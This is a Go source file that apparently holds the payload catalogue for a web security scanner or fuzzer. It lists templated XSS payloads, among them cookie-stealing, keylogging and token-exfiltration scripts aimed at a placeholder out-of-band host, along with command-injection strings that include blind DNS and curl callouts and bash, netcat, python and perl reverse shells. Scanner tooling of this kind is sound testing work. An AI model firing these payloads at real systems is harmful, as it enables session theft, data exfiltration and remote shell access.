package east

func scripting() []family {
	return []family{
		{name: "xss/script-tag", place: anywhere, veils: "tags twice uescape base64 pad overlong",
			vals: one("‹v›<script>‹shot›</script>", "\"><script>‹shot›</script>", "<script src=//‹oob›/‹w2›.js></script>", "</title><script>‹shot›</script>", "<script/x>‹shot›</script>", "'><script src=\"data:,‹shot›\"></script>")},
		{name: "xss/img-onerror", place: anywhere, veils: "tags twice uescape base64 fullwidth",
			vals: one("‹v›<img src=x onerror=‹shot›>", "\"><img src=x onerror=‹shot›>", "<img/src/onerror=‹shot›>", "<image src=q onerror=eval(atob('‹b64:‹shot››'))>", "<img src=1 oNeRrOr=‹shot›//")},
		{name: "xss/svg-onload", place: anywhere, veils: "tags twice",
			vals: one("‹v›<svg onload=‹shot›>", "\"/><svg/onload=‹shot›//", "<svg><animate onbegin=‹shot› attributeName=x dur=1s>", "<svg><script>‹shot›</script></svg>", "<svg><set onbegin=‹shot› attributename=x>")},
		{name: "xss/event-tags", place: strict, veils: "tags twice white",
			vals: one("<details open ontoggle=‹shot›>", "<body onpageshow=‹shot›>", "<video><source onerror=‹shot›>", "<input autofocus onfocus=‹shot›>", "<marquee onstart=‹shot›>x</marquee>", "<audio src=x onerror=‹shot›>", "<select onfocus=‹shot› autofocus>", "<dialog open onfocusin=‹shot› tabindex=1>", "<style onload=‹shot›></style>")},
		{name: "xss/attribute-break", place: strict, veils: "tags twice",
			vals: one("‹v›\" onmouseover=\"‹shot›", "' onfocus='‹shot›' autofocus='", "x\" autofocus onfocus=‹shot› y=\"", "\" style=\"animation-name:x\" onanimationend=\"‹shot›\"", "‹w4›' onpointerenter=‹shot› '", "\" accesskey=\"x\" onclick=\"‹shot›\" z=\"")},
		{name: "xss/javascript-url", place: strict, veils: "tags twice",
			vals: one("javascript:‹shot›", "jaVasCript:‹shot›//", "javascript://%0a‹shot›", "<a href=\"javascript:‹shot›\">‹word›</a>", "java‹tab›script:‹shot›", "javascript:/*--></title></style></textarea>*/‹shot›", "[‹word›](javascript:‹shot›)")},
		{name: "xss/entity-url", place: fields,
			vals: one("<a href=\"&#106;&#97;vascript&colon;‹shot›\">x</a>", "<a href=&#x6A;avascript:‹shot›>‹w3›</a>", "<iframe src=\"java&Tab;script:‹shot›\">", "<a href=\"jav&#x0A;ascript:‹shot›\">go</a>", "&lt;script&gt;‹shot›&lt;/script&gt;")},
		{name: "xss/data-url", place: strict, veils: "tags",
			vals: one("data:text/html,<script>‹shot›</script>", "data:text/html;base64,‹b64:<script>‹shot›</script>›", "<object data=\"data:text/html;base64,‹b64:<svg onload=‹shot›>›\">", "<iframe src='data:text/html,<img src=1 onerror=‹shot›>'>")},
		{name: "xss/iframe-object", place: fields, veils: "tags twice",
			vals: one("<iframe srcdoc=\"<script>‹shot›</script>\">", "<iframe src=javascript:‹shot›>", "<embed src=//‹oob›/x.swf allowscriptaccess=always>", "<object data=javascript:‹shot›>", "<iframe/onload='‹shot›'></iframe>")},
		{name: "xss/js-string-break", place: strict, veils: "twice uescape",
			vals: one("‹v›';‹shot›;//", "\"-‹shot›-\"", "'+‹shot›+'", "\\';‹shot›//", "</script><script>‹shot›</script>", "${‹shot›}`;‹shot›//", "\"});‹shot›;//")},
		{name: "xss/rich-text-smuggled", place: "json form graphql multipart",
			vals: one("<p>‹say›</p><img src=x onerror=‹shot›>", "<h2>‹title›</h2><p><a href=\"javascript:‹shot›\">‹word›</a> ‹say›</p>", "‹markdown›\n\n<script>‹shot›</script>", "<b>‹word›</b><svg/onload=‹shot›> ‹say›", "![‹word›](x\"onerror=\"‹shot›)")},
	}
}

func scriptingMore() []family {
	return []family{
		{name: "xss/no-parentheses", place: fields, veils: "twice",
			vals: one("<img src=x onerror=location='javascript:‹shot›'>", "<svg onload=alert`‹1..9›`>", "<img src=x onerror=\"window.onerror=eval;throw'=alert\\x281\\x29'\">", "<x onclick=setTimeout`alert\\x28document.domain\\x29`>click</x>")},
		{name: "xss/obfuscated-js", place: strict, veils: "twice",
			vals: one("<script>eval(String.fromCharCode(‹6..20*,*‹40..120››))</script>", "<img src=x onerror=eval(atob(`‹b64:‹shot››`))>", "<script>window['\\x61\\x6c\\x65\\x72\\x74'](‹1..9›)</script>", "<svg onload=\\u0061\\u006cert(1)>", "\";(function(){}).constructor('‹shot›')();//", "<script>[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]](1)</script>")},
		{name: "xss/mutation-namespace", place: "json form multipart graphql",
			vals: one("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=‹shot›&gt;\">", "<noscript><p title=\"</noscript><img src=x onerror=‹shot›>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=‹shot›>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=‹shot›>")},
		{name: "xss/broken-markup", place: strict, veils: "tags",
			vals: one("<<script>‹shot›//<</script>", "<scr<script>ipt>‹shot›</scr</script>ipt>", "<img \"\"\"><script>‹shot›</script>\">", "<script‹tab›>‹shot›</script‹nl›>", "<svg‹nl›onload‹nl›=‹shot›>", "<img src=`x`onerror=‹shot›>", "‹nul›<script>‹shot›</script>")},
		{name: "xss/cookie-steal", place: fields, veils: "tags twice base64 pad",
			vals: one("<script>new Image().src='http://‹oob›/?c='+document.cookie</script>", "<script>fetch('https://‹oob›',{method:'POST',body:localStorage.token})</script>", "<img src=x onerror=\"navigator.sendBeacon('//‹oob›',document.cookie)\">", "‹first›<script>document.location='//‹c2›/?'+document.cookie;</script>")},
		{name: "xss/keylogger-import", place: "json form multipart",
			vals: one("<script>document.onkeypress=e=>fetch('//‹oob›/?k='+e.key)</script>", "<script type=module>import'//‹oob›/‹w3›.js'</script>", "<link rel=stylesheet href=//‹oob›/‹w3›.css><script src=//‹oob›></script>", "<base href=//‹oob›/><script src=/app.js></script>")},
		{name: "xss/angular-vue", place: strict, veils: "twice",
			vals: one("{{constructor.constructor('‹shot›')()}}", "{{$on.constructor('‹shot›')()}}", "<div ng-app ng-csp><input ng-focus=$event.path autofocus></div>{{$eval.constructor('‹shot›')()}}", "<div v-html=\"''.constructor.constructor('‹shot›')()\"></div>", "{{_c.constructor('‹shot›')()}}")},
		{name: "xss/css-and-legacy", place: fields, veils: "tags",
			vals: one("<div style=\"width:expression(‹shot›)\">", "<style>@import'//‹oob›/x.css';</style>", "<x style=\"behavior:url(#default#time2)\" onbegin=\"‹shot›\">", "<div style=\"background:url(javascript:‹shot›)\">", "vbscript:msgbox(‹1..9›)", "<bgsound src=javascript:‹shot›>")},
		{name: "xss/svg-file", place: "multipart",
			reqs: one(`POST /me/avatar multipart
file;‹w6›.svg;image/svg+xml
¤`),
			vals: one("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"‹shot›\"><rect width=\"9\" height=\"9\"/></svg>", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script type=\"text/javascript\">‹shot›</script></svg>", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:‹shot›\"/></foreignObject></svg>")},
		{name: "xss/file-name", place: "multipart",
			reqs: one(`POST /v1/uploads multipart
kind
‹word›
~~
file;§;image/png
‹B30›`),
			vals: one("<img src=x onerror=‹shot›>.png", "\"><svg onload=‹shot›>.jpg", "‹word›'><script>‹shot›</script>.pdf")},
		{name: "xss/referer-agent", place: "header",
			reqs: one("GET /v1/articles/‹#4›\n> referer: https://‹webhost›/?q=§", "GET /home\n> user-agent: Mozilla/5.0 § Chrome/120", "GET /\n> x-forwarded-host: §"),
			vals: one("\"><script>‹shot›</script>", "<script src=//‹oob›></script>", "'-‹shot›-'", "<img src=x onerror=‹shot›>")},
		{name: "xss/json-key", place: "jsonkey",
			vals: one("<img src=x onerror=‹shot›>", "\"><script>‹shot›</script>", "‹word›'-‹shot›-'")},
	}
}

func shells() []family {
	return []family{
		{name: "cmdi/semicolon", place: anywhere, veils: "ifs quotes twice base64",
			vals: one("‹v›; ‹cmd›", "‹v›;‹cmd›;", "; ‹cmd› #", "‹word›.png;‹cmd›", "\"; ‹cmd›; echo \"")},
		{name: "cmdi/pipe", place: anywhere, veils: "ifs quotes twice base64",
			vals: one("‹v› | ‹cmd›", "|‹cmd›", "‹word›|‹cmd›|", "|| ‹cmd› ||", "x' | ‹cmd› '")},
		{name: "cmdi/and", place: anywhere, veils: "ifs quotes twice",
			vals: one("‹v› && ‹cmd›", "‹v›&‹cmd›&", "&& ‹cmd› &&", "‹word›\" && ‹cmd› && \"", "1&&‹cmd›")},
		{name: "cmdi/substitution", place: anywhere, veils: "ifs quotes twice base64",
			vals: one("$(‹cmd›)", "‹v›$(‹cmd›)", "‹tick›‹cmd›‹tick›", "‹word›‹tick›‹cmd›‹tick›.jpg", "\"$(‹cmd›)\"", "x@$(‹cmd›).example.org")},
		{name: "cmdi/newline", place: fields, veils: "twice",
			vals: one("‹v›‹nl›‹cmd›‹nl›", "‹ip›‹crlf›‹cmd›", "‹word›‹nl›/bin/‹cmd›")},
		{name: "cmdi/quote-break", place: strict, veils: "ifs quotes",
			vals: one("';‹cmd›;'", "\";‹cmd›;\"", "')+;‹cmd›;#", "‹w4›'$(‹cmd›)'", "\\\";‹cmd›;#")},
		{name: "cmdi/blind-time", place: anywhere, veils: "ifs twice",
			vals: one("‹v›;sleep ‹sec›", "$(sleep ‹sec›)", "& ping -c ‹sec› 127.0.0.1 &", "|sleep ‹sec›", "‹tick›sleep ‹sec›‹tick›", "|| ping -i 1 -c ‹sec› localhost ; x || ping -n ‹sec› localhost &", "|timeout /T ‹sec›")},
		{name: "cmdi/blind-dns", place: strict, veils: "ifs quotes twice base64",
			vals: one("‹v›;nslookup $(whoami).‹oob›", "|nslookup ‹oob›", "$(curl -s http://‹oob›/$(hostname))", "& nslookup -q=cname ‹oob› &", "‹tick›dig +short $(id -u).‹oob›‹tick›", "||wget http://‹oob›/?a=$(uname -r)||")},
		{name: "cmdi/reverse-shell", place: fields, veils: "base64",
			vals: one("‹v›;bash -i >& /dev/tcp/‹ip›/‹1024..9999› 0>&1", "|nc -e /bin/sh ‹ip› ‹#4›", "; rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc ‹ip› ‹#4› >/tmp/f", "$(python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"‹ip›\",‹#4›));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")')", "&& perl -e 'use Socket;$i=\"‹ip›\";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(‹#4›,inet_aton($i)));exec(\"sh -i\")'")},
	}
}
